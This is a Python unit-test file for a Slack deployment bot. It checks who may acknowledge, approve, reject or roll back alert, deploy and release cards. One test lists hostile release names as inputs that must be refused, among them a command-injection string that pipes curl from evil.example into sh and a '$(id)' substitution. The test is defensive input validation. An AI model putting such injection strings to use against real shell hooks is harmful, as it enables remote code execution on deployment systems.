"""Decisions: every verb on every card, who may, who was first, and what a release pins."""

from __future__ import annotations

import itertools
from dataclasses import replace
from typing import get_args

import pytest

from action_handler.action import VERBS, Verb
from action_handler.decide import Decision, decide
from action_handler.policy import Policy
from pulser.permission import Membership
from pulser.settlement import CardKind, Hook
from tests.unit.action_handler.situations import (
    ALICE,
    BOB,
    CARD_ID,
    CAROL,
    EARLIER,
    EARLIER_AT,
    NO_GROUPS,
    NOW,
    ONCALL,
    PHASES,
    POLICY,
    REQUESTED,
    STRANGER,
    card,
    person,
    situation,
)

# What each verb may do, by kind and phase of the card; everything else changes nothing.
OPEN: dict[Verb, set[tuple[str, str]]] = {
    "acknowledge": {("alert", "open")},
    "investigate": {("alert", "open"), ("alert", "acknowledged")},
    "snooze": {("alert", "open")},
    "approve": {("deploy", "requested")},
    "reject": {("deploy", "requested"), ("deploy", "queued")},
    "rollback": {("release", "deployed"), ("deploy", "completed")},
}
EVERY = [(verb, kind, phase) for verb, kind in itertools.product(VERBS, get_args(CardKind)) for phase in PHASES[kind]]


@pytest.mark.parametrize(("verb", "kind", "phase"), EVERY)
def test_each_verb_works_where_it_belongs(verb: Verb, kind: CardKind, phase: str) -> None:
    """And nowhere else: there the click changes nothing and gets a note."""
    decision = decide(situation(verb, card(kind, phase)))
    assert (decision.outcome == "done") is ((kind, phase) in OPEN[verb])
    assert (decision.note is None) is (decision.outcome == "done")


@pytest.mark.parametrize(("verb", "kind", "phase"), EVERY)
def test_a_decision_keeps_the_cards_state(verb: Verb, kind: CardKind, phase: str) -> None:
    """What was done before stays; a phase is one that the card can have."""
    before = {**REQUESTED, "odd": "kept"}
    decision = decide(situation(verb, card(kind, phase, before)))
    if decision.outcome == "done":
        assert decision.phase in PHASES[kind]
        assert decision.state["odd"] == "kept"
        assert decision.event_type


def test_acknowledge() -> None:
    """The alert is acknowledged, by whom and when."""
    decision = decide(situation("acknowledge", card("alert", "open"), CAROL))
    assert (decision.phase, decision.event_type) == ("acknowledged", "alert.acknowledged")
    assert decision.state == {"acknowledged": {"user": CAROL, "name": "a name", "at": NOW.isoformat()}}
    assert decision.hook is None


def test_investigate_after_somebodys_acknowledge() -> None:
    """It moves on, and both stand on the card."""
    on = card("alert", "acknowledged", {"acknowledged": person(ALICE)})
    decision = decide(situation("investigate", on, CAROL))
    assert (decision.phase, decision.event_type) == ("investigating", "alert.investigating")
    assert set(decision.state) == {"acknowledged", "investigating"}


@pytest.mark.parametrize(("verb", "briefs"), [("investigate", True), ("acknowledge", False)])
def test_only_who_investigates_is_briefed(verb: Verb, *, briefs: bool) -> None:
    """What is known is told in the thread of the alert."""
    assert decide(situation(verb, card("alert", "open", {}), CAROL)).briefs is briefs


def test_a_late_click_is_told_who_did_it_and_when() -> None:
    """In the reader's own time zone."""
    on = card("alert", "acknowledged", {"acknowledged": person(ALICE)})
    decision = decide(situation("acknowledge", on, CAROL))
    assert (decision.outcome, decision.reason) == ("late", "acknowledged")
    assert decision.note == (
        f"<@{ALICE}> acknowledged this alert already, <!date^{EARLIER_AT}^{{date_short_pretty}} at {{time_secs}}"
        "|2026-03-01 07:30:00 UTC>. Nothing was changed."
    )


@pytest.mark.parametrize("verb", ["acknowledge", "investigate"])
def test_a_click_on_what_is_over_is_told_when_it_ended(verb: Verb) -> None:
    """Also where somebody had it in hand before."""
    state = {"acknowledged": person(ALICE), "resolved": {"at": EARLIER, "event_type": "ci.passed"}}
    decision = decide(situation(verb, card("alert", "resolved", state), CAROL))
    assert (decision.outcome, decision.reason) == ("late", "resolved")
    assert decision.note == (
        f"This alert was resolved already, <!date^{EARLIER_AT}^{{date_short_pretty}} at {{time_secs}}"
        "|2026-03-01 07:30:00 UTC>. Nothing was changed."
    )


def test_a_click_on_what_a_newer_message_tells_of_is_sent_there() -> None:
    """The alert is not over: it became critical, or fired again a day later."""
    on = card("alert", "resolved", {"resolved": {"at": EARLIER, "superseded_by": CARD_ID}})
    assert "a newer message tells of it" in (decide(situation("acknowledge", on, CAROL)).note or "")


def test_ones_own_second_click_says_you() -> None:
    """Nobody is told about himself by name."""
    on = card("alert", "acknowledged", {"acknowledged": person(ALICE)})
    assert (decide(situation("acknowledge", on, ALICE)).note or "").startswith("You acknowledged this alert already")


@pytest.mark.parametrize("verb", ["acknowledge", "investigate"])
def test_an_alert_under_investigation_says_who_investigates(verb: Verb) -> None:
    """Whoever investigates it has seen it."""
    on = card("alert", "investigating", {"investigating": person(ALICE)})
    assert f"<@{ALICE}> began to investigate" in (decide(situation(verb, on)).note or "")


def test_an_alert_needs_no_permission() -> None:
    """Anybody may say that he has seen it, also where the service is not known."""
    on = card("alert", "open", service=None)
    assert decide(situation("acknowledge", on, STRANGER, policy=None)).outcome == "done"


def test_approve_starts_the_deploy() -> None:
    """The card is approved and the hook is called with what was asked for."""
    decision = decide(situation("approve", card("deploy", "requested"), BOB))
    assert (decision.phase, decision.event_type) == ("approved", "deploy.approved")
    assert decision.state["approval"] == {
        "by": {"user": BOB, "name": "a name", "at": NOW.isoformat()},
        "decision": "approved",
    }
    assert decision.state["hook"] == {"status": "queued", "action": "deploy", "at": NOW.isoformat()}
    assert decision.hook == Hook(
        "api",
        "deploy",
        {
            "version": "1.2.3",
            "environment": "production",
            "reason": "a fix",
            "requested_by": ALICE,
            "approved_by": BOB,
        },
    )


def test_reject_starts_nothing() -> None:
    """No hook is called."""
    decision = decide(situation("reject", card("deploy", "requested"), BOB))
    assert (decision.phase, decision.event_type, decision.hook) == ("rejected", "deploy.rejected", None)
    assert decision.reason == "rejected"


@pytest.mark.parametrize("approvers", [(), (BOB,), (ALICE,), (ALICE, BOB), (ONCALL,)])
def test_nobody_approves_his_own_request(approvers: tuple[str, ...]) -> None:
    """Also when he is an approver, or in the group of approvers."""
    decision = decide(
        situation(
            "approve",
            card("deploy", "requested"),
            ALICE,
            policy=replace(POLICY, approvers=approvers),
            membership=Membership(frozenset({ONCALL})),
        )
    )
    assert (decision.outcome, decision.reason) == ("refused", "own_request")
    assert f"<@{ALICE}>" not in (decision.note or "")


def test_the_requester_may_withdraw() -> None:
    """Without being an approver."""
    decision = decide(situation("reject", card("deploy", "requested"), ALICE, policy=replace(POLICY, approvers=())))
    assert (decision.outcome, decision.reason, decision.facts["withdrawn"]) == ("done", "withdrawn", True)


def test_the_requester_is_known_from_the_event_of_old() -> None:
    """A request from before the cards has no state, its event says who asked."""
    on = card("deploy", "requested", {}, event={"payload": {"slack_user": ALICE}})
    assert decide(situation("approve", on, ALICE)).reason == "own_request"


@pytest.mark.parametrize("verb", ["approve", "reject", "rollback"])
@pytest.mark.parametrize(
    ("user", "membership", "granted"),
    [
        (BOB, NO_GROUPS, True),
        (CAROL, Membership(frozenset({ONCALL})), True),
        (CAROL, NO_GROUPS, False),
        (CAROL, Membership(frozenset({"S0OTHERS"})), False),
        (CAROL, Membership(frozenset(), frozenset({ONCALL})), False),
        (BOB, Membership(frozenset(), frozenset({ONCALL})), True),
        (STRANGER, NO_GROUPS, False),
    ],
)
def test_only_who_is_named_may(verb: Verb, user: str, membership: Membership, granted: bool) -> None:  # noqa: FBT001
    """By his own id, or by a group that Slack says he is in."""
    on = card("release", "deployed") if verb == "rollback" else card("deploy", "requested")
    assert (decide(situation(verb, on, user, membership=membership)).outcome == "done") is granted


@pytest.mark.parametrize("verb", ["approve", "reject", "rollback"])
def test_who_may_not_is_told_who_may(verb: Verb) -> None:
    """Users and groups as mentions."""
    on = card("release", "deployed") if verb == "rollback" else card("deploy", "requested")
    decision = decide(situation(verb, on, STRANGER))
    assert decision.reason == "not_permitted"
    assert f"Only <@{BOB}> and <!subteam^{ONCALL}> may" in (decision.note or "")


@pytest.mark.parametrize("verb", ["approve", "reject", "rollback"])
def test_where_nobody_is_named_nobody_may(verb: Verb) -> None:
    """And the note says where to name somebody."""
    on = card("release", "deployed") if verb == "rollback" else card("deploy", "requested")
    policy = replace(POLICY, approvers=(), rollback_by=())
    decision = decide(situation(verb, on, BOB, policy=policy))
    assert decision.reason == "nobody_may"
    assert ("`rollback_by`" if verb == "rollback" else "`approvers`") in (decision.note or "")


@pytest.mark.parametrize("verb", ["approve", "reject", "rollback"])
def test_what_slack_did_not_tell_is_not_granted(verb: Verb) -> None:
    """The note says that it could not be checked."""
    on = card("release", "deployed") if verb == "rollback" else card("deploy", "requested")
    decision = decide(situation(verb, on, CAROL, membership=Membership(frozenset(), frozenset({ONCALL}))))
    assert decision.reason == "could_not_check"
    assert "try again" in (decision.note or "")


@pytest.mark.parametrize("verb", ["approve", "reject", "rollback"])
def test_an_unknown_service_is_refused(verb: Verb) -> None:
    """No policy, no permission."""
    on = card("release", "deployed") if verb == "rollback" else card("deploy", "requested")
    assert decide(situation(verb, on, BOB, policy=None)).reason == "unknown_service"


@pytest.mark.parametrize(
    ("verb", "policy"),
    [("approve", replace(POLICY, can_deploy=False)), ("rollback", replace(POLICY, can_rollback=False))],
)
def test_a_service_without_a_hook_is_refused(verb: Verb, policy: Policy) -> None:
    """There is nothing to call; the card must not say that it was approved."""
    on = card("release", "deployed") if verb == "rollback" else card("deploy", "requested")
    assert decide(situation(verb, on, BOB, policy=policy)).reason == "no_hook"


@pytest.mark.parametrize(
    ("phase", "state", "told"),
    [
        ("approved", {"approval": {"by": person(BOB), "decision": "approved"}}, f"<@{BOB}> approved this deploy"),
        ("started", {"approval": {"by": person(BOB), "decision": "approved"}}, "runs already"),
        ("completed", {"approval": {"decision": "not_needed"}}, "done already"),
        ("rejected", {"approval": {"by": person(BOB), "decision": "rejected"}}, f"<@{BOB}> rejected this deploy"),
        ("rejected", {"approval": {"by": person(ALICE), "decision": "rejected"}}, f"<@{ALICE}> withdrew this deploy"),
        ("expired", {}, "/pulser deploy"),
        ("failed", {"approval": "odd"}, "has failed"),
    ],
)
@pytest.mark.parametrize("verb", ["approve", "reject"])
def test_a_decided_deploy_says_who_decided(verb: Verb, phase: str, state: dict[str, object], told: str) -> None:
    """Or how it ended, where nobody did."""
    decision = decide(situation(verb, card("deploy", phase, REQUESTED | state), CAROL))
    assert decision.outcome == "late"
    assert told in (decision.note or "")


def test_a_rollback_moves_the_release_and_calls_the_hook() -> None:
    """With the release that the card was drawn for."""
    decision = decide(situation("rollback", card("release", "deployed"), BOB))
    assert (decision.phase, decision.event_type) == ("rolling_back", "rollback.requested")
    assert decision.state["rollback"] == {"user": BOB, "name": "a name", "at": NOW.isoformat(), "release": "1.2.3"}
    assert decision.hook is not None
    assert (decision.hook.action, decision.hook.inputs["version"]) == ("rollback", "1.2.3")


def test_a_completed_deploy_can_be_rolled_back_once() -> None:
    """Its phase stays, its state says it."""
    decision = decide(situation("rollback", card("deploy", "completed"), BOB))
    again = decide(situation("rollback", card("deploy", decision.phase, decision.state), CAROL))
    assert (decision.phase, again.outcome) == ("completed", "late")
    assert f"<@{BOB}> asked for this rollback already" in (again.note or "")


@pytest.mark.parametrize("kind", ["release", "deploy"])
def test_a_rollback_of_an_older_release_is_refused(kind: CardKind) -> None:
    """Somebody deployed another one since; the note says what runs."""
    on = card(kind, "deployed" if kind == "release" else "completed", current_release="1.2.4")
    decision = decide(situation("rollback", on))
    assert decision.reason == "other_release"
    assert "`1.2.3`" in (decision.note or "")
    assert "`1.2.4`" in (decision.note or "")


@pytest.mark.parametrize("drawn_for", [None, "", "1.2.2"])
def test_a_button_of_another_release_is_refused(drawn_for: str | None) -> None:
    """Its value is signed for the release that it was drawn for."""
    on = card("release", "deployed")
    assert decide(situation("rollback", on, drawn_for=drawn_for)).reason == "other_release"


def test_where_nothing_is_known_to_run_the_card_decides() -> None:
    """A service whose deploys were never told has no current release."""
    assert decide(situation("rollback", card("release", "deployed", current_release=None))).outcome == "done"


def test_a_card_without_a_release_cannot_be_rolled_back() -> None:
    """There is nothing to name to the hook."""
    on = card("release", "deployed", release=None, current_release=None)
    assert decide(situation("rollback", on)).outcome == "refused"


@pytest.mark.parametrize("release", ['1.2.4"; curl evil.example | sh; "', "$(id)", "-rf", "1 2", "v1\n", "версия"])
def test_a_release_with_an_odd_name_is_handed_to_no_hook(release: str) -> None:
    """Whoever writes an event writes its version, and a shell may meet it in the hook; a form refuses the same."""
    on = card("release", "deployed", release=release, current_release=release)
    decision = decide(situation("rollback", on, drawn_for=release))
    assert (decision.outcome, decision.hook) == ("refused", None)


def test_who_came_late_is_told_so_before_he_is_told_who_may() -> None:
    """A stranger learns that there is nothing left to do."""
    on = card("release", "rolling_back", {"rollback": person(BOB)})
    decision = decide(situation("rollback", on, STRANGER))
    assert decision.outcome == "late"
    assert f"<@{BOB}> asked for this rollback already" in (decision.note or "")


def test_a_refusal_carries_no_effect() -> None:
    """No phase, no event, no hook: there is nothing that could be written by mistake."""
    decision = decide(situation("approve", card("deploy", "requested"), STRANGER))
    assert decision == Decision("refused", "not_permitted", decision.note)


@pytest.mark.parametrize("phase", ["open", "acknowledged", "investigating"])
def test_a_failed_deploy_can_be_rolled_back_from_its_alert(phase: str) -> None:
    """It keeps its phase: who acknowledged or investigates goes on."""
    on = card("alert", phase, event={"event_id": CARD_ID, "event_type": "deploy.failed"})
    decision = decide(situation("rollback", on))
    assert (decision.outcome, decision.phase) == ("done", phase)


def test_a_failed_deploy_is_rolled_back_once() -> None:
    """The second click is told who asked for it."""
    on = card("alert", "open", event={"event_id": CARD_ID, "event_type": "deploy.failed"})
    again = replace(on, state=decide(situation("rollback", on)).state)
    assert decide(situation("rollback", again)).outcome == "late"


def test_a_rollback_from_another_message_of_the_deploy_is_told_who_asked() -> None:
    """Also one who may not roll back: there is nothing left to do."""
    other = {"card_id": "another", "release": "1.2.2", "by": person(CAROL)}
    for user in (BOB, STRANGER):
        decision = decide(situation("rollback", card("deploy", "completed", other_rollback=other), user))
        assert decision.outcome == "late"
        assert f"<@{CAROL}> asked to roll back `api` from `1.2.2` already, on another message, " in (
            decision.note or ""
        )


def test_an_environment_that_is_allowed_no_more_is_not_deployed_to() -> None:
    """The policy of now counts, not that of the request; rolling back from there stays possible."""
    policy = replace(POLICY, environments=("staging",))
    asked = decide(situation("approve", card("deploy", "requested"), policy=policy))
    back = decide(situation("rollback", card("deploy", "completed"), policy=policy))
    assert (asked.outcome, asked.reason, back.outcome) == ("refused", "environment_not_allowed", "done")


def test_a_failed_deploy_that_is_over_is_not_rolled_back() -> None:
    """Its release runs by now: the button is of before, and the note says so."""
    failed = {"event": {"event_id": CARD_ID, "event_type": "deploy.failed"}}
    on = card("alert", "resolved", {"resolved": {"at": EARLIER}}, **failed)
    decision = decide(situation("rollback", on))
    assert (decision.outcome, decision.reason, decision.hook) == ("late", "resolved", None)
    assert decision.note is not None
    assert decision.note.startswith(f"This alert was resolved already, <!date^{EARLIER_AT}^")


def test_a_rollback_of_an_alert_that_is_over_since_says_who_asked_for_it() -> None:
    """Who was first is more than that it is over."""
    failed = {"event": {"event_id": CARD_ID, "event_type": "deploy.failed"}}
    decision = decide(situation("rollback", card("alert", "resolved", {"rollback": person(CAROL)}, **failed)))
    assert (decision.outcome, decision.reason) == ("late", "rollback")
